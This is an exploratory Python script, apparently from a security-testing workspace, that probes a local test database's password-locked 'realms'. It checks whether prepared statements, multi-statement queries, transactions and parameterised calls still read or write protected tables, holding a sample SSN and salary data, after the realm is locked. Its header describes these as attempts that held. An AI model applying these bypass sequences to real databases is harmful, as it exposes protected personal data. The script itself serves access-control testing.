# exploratory script (attempts that held); run with /usr/bin/python3, prints observations
import sys, time, signal, os; sys.path.insert(0,'/work/attack2/findings')
from dbv import *
from pq import PQ
s=Server(); s.start(); print(s.tmp, s.port)
d=s.connect('dba'); sa=s.connect('secadmin')
for q in ["CREATE TABLE users (id INTEGER PRIMARY KEY, ssn TEXT)", "INSERT INTO users VALUES (1,'078-05-1120')"]:
    print(q, run(d,q))
for q in ["CREATE REALM pii DESCRIPTION 'p' REQUIRE VAULT PASSWORD 'vpw-1'", "ALTER REALM pii ADD TABLE users",
          "CREATE REALM hr DESCRIPTION 'h' REQUIRE VAULT PASSWORD 'hrpw-1' TABLESPACE hr_ts"]:
    print(q, run(sa,q))
print(run(d,"CREATE TABLE sal (id INTEGER PRIMARY KEY, amount INTEGER) TABLESPACE hr_ts"))
p=PQ(s.port,'dba',PW['dba'])
T=[("exec","UNLOCK REALM pii PASSWORD 'vpw-1'"),("exec","UNLOCK REALM hr PASSWORD 'hrpw-1'"),
   ("exec","INSERT INTO sal VALUES (1,100)"),
   ("prep","s1","SELECT * FROM users"),("prep","s2","SELECT * FROM sal"),("prep","s3","INSERT INTO sal VALUES ($1, 5)"),
   ("execp","s1"),("execp","s2"),
   ("exec","LOCK REALM pii; LOCK REALM hr"),
   ("execp","s1"),("execp","s2"),("execp","s3",["7"]),
   ("exec","UNLOCK REALM hr PASSWORD 'hrpw-1'"),("exec","BEGIN"),("execp","s2"),("exec","LOCK REALM hr"),("execp","s2"),("execp","s3",["8"]),("exec","ROLLBACK"),
   ("exec","UNLOCK REALM hr PASSWORD 'hrpw-1'"),("exec","SELECT 1; SELECT * FROM sal"),("exec","SELECT * FROM sal; LOCK REALM hr"),("execp","s2"),
   ("params","UNLOCK REALM hr PASSWORD $1",["hrpw-1"]),("params","SELECT * FROM sal"),
   ("exec","BEGIN"),("params","CREATE REALM zz DESCRIPTION 'x'"),("exec","ROLLBACK"),
   ("exec","SELECT * FROM sal; LOCK REALM hr"),("exec","SELECT * FROM sal"),
]
for t in T:
    if t[0]=="exec": r=p.exec(t[1])
    elif t[0]=="prep": r=p.prepare(t[1],t[2])
    elif t[0]=="params": r=p.params(t[1], t[2] if len(t)>2 else ())
    else: r=p.execp(t[1], t[2] if len(t)>2 else ())
    print(t, '=>', r, p.tx())
print(run(d,"UNLOCK REALM hr PASSWORD 'hrpw-1'"), run(d,"SELECT * FROM sal"))
print(run(sa,"SELECT name FROM vault.realms"))
